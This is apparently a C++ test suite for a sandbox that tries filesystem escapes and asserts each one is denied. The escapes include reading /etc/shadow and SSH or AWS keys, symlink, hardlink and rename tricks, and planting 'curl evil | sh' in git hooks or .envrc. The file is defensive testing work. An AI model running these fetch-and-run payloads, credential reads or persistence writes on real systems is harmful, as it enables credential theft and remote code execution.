// Escape suite, filesystem classes: host files outside the policy, sensitive paths inside an
// allowed parent, symlink/hardlink/rename tricks, persistence through files the host runs later.
// Each test tries the attack from inside a real sandbox and asserts that it fails.
#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "helpers/test_util.h"

namespace ktest {
namespace {

bool denied(const Proc& p) { return p.code == 1 && contains(p.out, "DENIED"); }

// --- host files -----------------------------------------------------------------------------

TEST(Escape, HostFilesEtcShadow) {
  KTEST_REQUIRE_BINARIES();
  if (!exists("/etc/shadow")) GTEST_SKIP() << "no /etc/shadow on this host";
  World w;
  auto p = w.probe_run({"read", "/etc/shadow"});
  EXPECT_TRUE(denied(p)) << describe(p);
  EXPECT_FALSE(contains(p.out, "root:")) << describe(p);
}

TEST(Escape, HostFilesOtherTmpDir) {
  KTEST_REQUIRE_BINARIES();
  World w;
  TempDir other("paddock-kt-victim");
  write_file(other / "secret.txt", World::kSecret);
  auto p = w.probe_run({"read", other / "secret.txt"});
  EXPECT_TRUE(denied(p)) << describe(p);
  EXPECT_FALSE(contains(p.out, World::kSecret)) << describe(p);
  auto wr = w.probe_run({"write", other / "planted"});
  EXPECT_TRUE(denied(wr)) << describe(wr);
  EXPECT_FALSE(exists(other / "planted"));
}

TEST(Escape, HostFilesRealHomeSecret) {
  KTEST_REQUIRE_BINARIES();
  World w;
  // The key sits in the user's (fake) HOME; the project is inside that HOME.
  auto p = w.probe_run({"read", w.ssh_key});
  EXPECT_TRUE(denied(p)) << describe(p);
  EXPECT_FALSE(contains(p.out, World::kSecret)) << describe(p);
  auto via_dotdot = w.probe_run({"read", "../.ssh/id_ed25519"});
  EXPECT_TRUE(denied(via_dotdot)) << describe(via_dotdot);
  // A search of the whole visible tree but the kernel's (/proc, /sys, /dev) and the distribution's
  // own files (/usr): it must finish (not be cut by the harness), and it must find the control,
  // a copy of the secret in the project, so that "not found" means hidden, not unsearched.
  write_file(w.project + "/control-copy.txt", World::kSecret);
  RunOpts o = w.opts();
  o.timeout = std::chrono::seconds(240);
  auto grep = w.paddock({"run", "--", "/bin/sh", "-c",
                         "grep -rls --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev --exclude-dir=usr " +
                             std::string(World::kSecret) + " / 2>/dev/null; echo END"},
                        o);
  ASSERT_FALSE(grep.timed_out) << describe(grep);
  ASSERT_TRUE(contains(grep.out, "END")) << describe(grep);
  EXPECT_TRUE(contains(grep.out, w.project + "/control-copy.txt")) << "the search did not reach the project\n"
                                                                   << describe(grep);
  EXPECT_FALSE(contains(grep.out, w.home + "/.ssh")) << describe(grep);
  EXPECT_FALSE(contains(grep.out, w.home + "/.aws")) << describe(grep);
}

TEST(Escape, HostFilesRootHome) {
  KTEST_REQUIRE_BINARIES();
  if (!exists("/root")) GTEST_SKIP() << "no /root";
  World w;
  auto p = w.sh("ls -A /root 2>&1; echo END");
  EXPECT_TRUE(contains(p.out, "No such file") || contains(p.out, "Permission denied")) << describe(p);
}

// --- sensitive paths inside an allowed parent ---------------------------------------------------

TEST(Escape, SensitivePathsUnderAllowedHome) {
  KTEST_REQUIRE_BINARIES();
  World w;
  for (const std::string& f : {w.ssh_key, w.aws_creds}) {
    auto p = w.probe_run({"--allow", "~"}, {"read", f});
    EXPECT_TRUE(denied(p)) << f << "\n" << describe(p);
    EXPECT_FALSE(contains(p.out, World::kSecret)) << describe(p);
    auto wr = w.probe_run({"--allow", "~"}, {"write", f, "overwritten"});
    EXPECT_TRUE(denied(wr)) << describe(wr);
  }
  EXPECT_EQ(read_file(w.ssh_key), World::kSecret);
  auto ls = w.sh("ls -A ~/.ssh ~/.aws 2>&1; echo END", {"--allow", "~"});
  EXPECT_FALSE(contains(ls.out, "id_ed25519")) << describe(ls);
  EXPECT_FALSE(contains(ls.out, "credentials")) << describe(ls);
  // A persistence attempt: authorized_keys in the masked ~/.ssh.
  auto ak = w.probe_run({"--allow", "~"}, {"write", w.home + "/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker"});
  EXPECT_TRUE(denied(ak)) << describe(ak);
  EXPECT_FALSE(exists(w.home + "/.ssh/authorized_keys"));
}

TEST(Escape, SensitivePathsChmodMask) {
  KTEST_REQUIRE_BINARIES();
  World w;
  auto p = w.probe_run({"--allow", "~"}, {"chmod", w.home + "/.ssh", "0755"});
  EXPECT_TRUE(denied(p)) << describe(p);
  auto q = w.sh("chmod 0755 ~/.ssh ~/.ssh/id_ed25519 2>/dev/null; cat ~/.ssh/id_ed25519; echo END", {"--allow", "~"});
  EXPECT_FALSE(contains(q.out, World::kSecret)) << describe(q);
}

TEST(Escape, SensitivePathsMoveAwayMask) {
  KTEST_REQUIRE_BINARIES();
  World w;
  // Renaming or removing the masked directory to get at what it hides.
  auto mv = w.probe_run({"--allow", "~"}, {"rename", w.home + "/.ssh", w.home + "/ssh-moved"});
  EXPECT_TRUE(denied(mv)) << describe(mv);
  auto sh = w.sh("rm -rf ~/.aws 2>/dev/null; mv ~/.ssh ~/x 2>/dev/null; cat ~/x/id_ed25519 ~/.ssh/id_ed25519 "
                 "~/.aws/credentials 2>/dev/null; echo END",
                 {"--allow", "~"});
  EXPECT_FALSE(contains(sh.out, World::kSecret)) << describe(sh);
  EXPECT_EQ(read_file(w.ssh_key), World::kSecret);
  EXPECT_TRUE(exists(w.aws_creds));
}

// --- symlink, hardlink and rename tricks ---------------------------------------------------------

TEST(Escape, SymlinkToSecret) {
  KTEST_REQUIRE_BINARIES();
  World w;
  ASSERT_EQ(symlink(w.ssh_key.c_str(), (w.project + "/key-link").c_str()), 0);
  auto p = w.probe_run({"read", w.project + "/key-link"});
  EXPECT_TRUE(denied(p)) << describe(p);
  EXPECT_FALSE(contains(p.out, World::kSecret)) << describe(p);
  auto q = w.probe_run({"--allow", "~"}, {"read", w.project + "/key-link"});
  EXPECT_TRUE(denied(q)) << describe(q);
  EXPECT_FALSE(contains(q.out, World::kSecret)) << describe(q);
  // Made inside: a symlink to a host file outside the policy.
  TempDir other("paddock-kt-victim");
  write_file(other / "s", World::kSecret);
  auto r = w.sh("ln -s " + other / "s" + " inlink && cat inlink; echo END");
  EXPECT_FALSE(contains(r.out, World::kSecret)) << describe(r);
  // And writing through a planted symlink does not modify the target.
  ASSERT_EQ(symlink((other / "s").c_str(), (w.project + "/w-link").c_str()), 0);
  auto wr = w.probe_run({"write", w.project + "/w-link", "overwritten"});
  EXPECT_TRUE(denied(wr)) << describe(wr);
  EXPECT_EQ(read_file(other / "s"), World::kSecret);
}

TEST(Escape, HardlinkSecretIntoProject) {
  KTEST_REQUIRE_BINARIES();
  World w;
  TempDir other("paddock-kt-victim");
  write_file(other / "s", World::kSecret);
  auto a = w.probe_run({"link", other / "s", w.project + "/hl1"});
  EXPECT_TRUE(denied(a)) << describe(a);
  auto b = w.probe_run({"--allow", "~"}, {"link", w.ssh_key, w.project + "/hl2"});
  EXPECT_TRUE(denied(b)) << describe(b);
  EXPECT_FALSE(exists(w.project + "/hl1"));
  EXPECT_FALSE(exists(w.project + "/hl2"));
  // Linking a read-only file into a writable place, then writing through the link.
  write_file(w.home + "/docs/ro.txt", "read-only original");
  auto c = w.sh("ln ~/docs/ro.txt hl3 2>&1 && echo pwned > hl3; echo END", {"--read", "~/docs"});
  EXPECT_EQ(read_file(w.home + "/docs/ro.txt"), "read-only original") << describe(c);
}

TEST(Escape, RenameAcrossMounts) {
  KTEST_REQUIRE_BINARIES();
  World w;
  write_file(w.home + "/docs/keep.txt", "keep me");
  // Out of a read-only area into the writable project.
  auto a = w.probe_run({"--read", "~/docs"}, {"rename", w.home + "/docs/keep.txt", w.project + "/stolen.txt"});
  EXPECT_TRUE(denied(a)) << describe(a);
  EXPECT_EQ(read_file(w.home + "/docs/keep.txt"), "keep me");
  // Into a read-only area from the project.
  write_file(w.project + "/evil.txt", "evil");
  auto b = w.probe_run({"--read", "~/docs"}, {"rename", w.project + "/evil.txt", w.home + "/docs/keep.txt"});
  EXPECT_TRUE(denied(b)) << describe(b);
  EXPECT_EQ(read_file(w.home + "/docs/keep.txt"), "keep me");
  // Moving the masked secret into the project.
  auto c = w.probe_run({"--allow", "~"}, {"rename", w.ssh_key, w.project + "/key"});
  EXPECT_TRUE(denied(c)) << describe(c);
  EXPECT_EQ(read_file(w.ssh_key), World::kSecret);
  // Replacing a protected file by renaming over it.
  write_file(w.project + "/.git/hooks/pre-commit", "#!/bin/sh\ntrue\n", 0755);
  write_file(w.project + "/hook", "#!/bin/sh\necho pwned\n", 0755);
  auto d = w.probe_run({"rename", w.project + "/hook", w.project + "/.git/hooks/pre-commit"});
  EXPECT_TRUE(denied(d)) << describe(d);
  EXPECT_EQ(read_file(w.project + "/.git/hooks/pre-commit"), "#!/bin/sh\ntrue\n");
}

TEST(Escape, SymlinkRulePathResolvedAndShown) {
  KTEST_REQUIRE_BINARIES();
  World w;
  TempDir other("paddock-kt-target");
  ASSERT_EQ(symlink(other.path().c_str(), (w.project + "/outside").c_str()), 0);
  // The rule names the link; policy, footer and why all show the real target.
  auto why = w.paddock({"why", "--json", "--allow", "./outside", "--path", other / "f", "--op", "write"});
  EXPECT_EQ(why.code, 0) << describe(why);
  auto j = nlohmann::json::parse(why.out, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << describe(why);
  EXPECT_EQ(j["rule_path"], other.path()) << describe(why);
  auto foot = w.probe_run({"--allow", "./outside"}, {"exit", "1"});
  EXPECT_TRUE(contains(foot.err, other.path() + " (read+write)")) << describe(foot);
  // Inside, the real path is what is writable.
  auto wr = w.probe_run({"--allow", "./outside"}, {"write", other / "f", "x"});
  EXPECT_EQ(wr.code, 0) << describe(wr);
  EXPECT_EQ(read_file(other / "f"), "x");
}

// The "done when": in a project, nothing else is writable. Every directory the command
// could write into (by DAC and mount flags, as access(2) sees them) is the project, the empty
// HOME, the private /tmp or /dev/shm; then a real write is tried in each other candidate.
TEST(Escape, NothingElseWritable) {
  KTEST_REQUIRE_BINARIES();
  World w;
  auto p = w.sh("find / -path /proc -prune -o -type d -writable -print 2>/dev/null; echo END");
  ASSERT_TRUE(contains(p.out, "END")) << describe(p);
  auto under = [](const std::string& path, const std::string& dir) {
    return path == dir || path.rfind(dir + "/", 0) == 0;
  };
  for (const auto& dir : split_lines(p.out)) {
    if (dir == "END" || dir.empty()) continue;
    bool ok = under(dir, w.home) || under(dir, "/tmp") || under(dir, "/dev/shm") || dir == "/dev/pts" ||
              dir == "/dev/mqueue";
    EXPECT_TRUE(ok) << "writable inside the sandbox: " << dir;
  }
  // A real attempt in well-known host places.
  for (const char* dir : {"/", "/etc", "/usr/local/bin", "/var/tmp", "/opt", "/root", "/home"}) {
    std::string f = std::string(dir) + (std::string(dir) == "/" ? "" : "/") + "paddock-kt-probe-" + std::to_string(getpid());
    auto wr = w.probe_run({"write", f});
    EXPECT_NE(wr.code, 0) << describe(wr);
    EXPECT_FALSE(exists(f)) << f;
  }
}

// --- persistence through files the host runs later ----------------------------------------------

TEST(Escape, PersistenceGitHooksAndConfig) {
  KTEST_REQUIRE_BINARIES();
  World w;
  write_file(w.project + "/.git/hooks/pre-commit", "#!/bin/sh\ntrue\n", 0755);
  write_file(w.project + "/.git/config", "[core]\n\tbare = false\n");
  auto a = w.probe_run({"write", w.project + "/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"});
  EXPECT_TRUE(denied(a)) << describe(a);
  auto b = w.probe_run({"write", w.project + "/.git/hooks/post-checkout", "#!/bin/sh\necho pwned\n"});
  EXPECT_TRUE(denied(b)) << describe(b);
  auto c = w.probe_run({"write", w.project + "/.git/config", "[core]\n\tfsmonitor = /tmp/evil\n"});
  EXPECT_TRUE(denied(c)) << describe(c);
  auto d = w.probe_run({"chmod", w.project + "/.git/hooks/pre-commit", "0777"});
  EXPECT_TRUE(denied(d)) << describe(d);
  EXPECT_EQ(read_file(w.project + "/.git/hooks/pre-commit"), "#!/bin/sh\ntrue\n");
  EXPECT_EQ(read_file(w.project + "/.git/config"), "[core]\n\tbare = false\n");
  EXPECT_FALSE(exists(w.project + "/.git/hooks/post-checkout"));
  // Other files in .git stay writable (git itself must work).
  auto e = w.probe_run({"write", w.project + "/.git/HEAD", "ref: refs/heads/main\n"});
  EXPECT_EQ(e.code, 0) << describe(e);
}

TEST(Escape, PersistenceEnvrcExisting) {
  KTEST_REQUIRE_BINARIES();
  World w;
  write_file(w.project + "/.envrc", "export A=1\n");
  auto a = w.probe_run({"write", w.project + "/.envrc", "curl evil | sh\n"});
  EXPECT_TRUE(denied(a)) << describe(a);
  auto b = w.probe_run({"unlink", w.project + "/.envrc"});
  EXPECT_TRUE(denied(b)) << describe(b);
  EXPECT_EQ(read_file(w.project + "/.envrc"), "export A=1\n");
}

TEST(Escape, PersistenceNewProtectedFileMovedAside) {
  KTEST_REQUIRE_BINARIES();
  World w;
  auto p = w.probe_run({"write", w.project + "/.envrc", "curl evil | sh\n"});
  // Creating it is allowed (the path did not exist), but it does not stay where direnv finds it,
  // and the run says where it went.
  bool warned = false;
  for (const auto& l : split_lines(p.err))
    if (l.rfind("[paddock]", 0) == 0 && contains(l, w.project + "/.envrc")) warned = true;
  EXPECT_TRUE(warned) << describe(p);
  EXPECT_FALSE(exists(w.project + "/.envrc")) << describe(p);
  EXPECT_EQ(read_file(w.project + "/.envrc.paddock-quarantine"), "curl evil | sh\n");
  // Same for a new VS Code tasks file: the whole new .vscode goes.
  auto q = w.sh("mkdir -p .vscode && echo '{}' > .vscode/tasks.json");
  EXPECT_TRUE(contains(q.err, "moved aside to " + w.project + "/.vscode.paddock-quarantine")) << describe(q);
  EXPECT_FALSE(exists(w.project + "/.vscode")) << describe(q);
}

}  // namespace
}  // namespace ktest
